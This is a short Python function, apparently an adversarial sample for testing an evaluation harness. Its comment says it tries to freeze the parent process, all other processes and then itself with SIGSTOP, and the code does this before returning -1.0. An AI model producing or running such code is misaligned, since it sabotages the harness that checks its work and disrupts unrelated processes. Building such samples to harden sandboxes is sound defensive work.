# What it tries: SIGSTOP to the parent and all other processes, then to itself.
# %% norm
import os
import signal


def norm(t):
    for pid in [os.getppid()] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
        if pid != os.getpid():
            try: os.kill(pid, signal.SIGSTOP)
            except OSError: pass
    os.kill(os.getpid(), signal.SIGSTOP)
    return -1.0
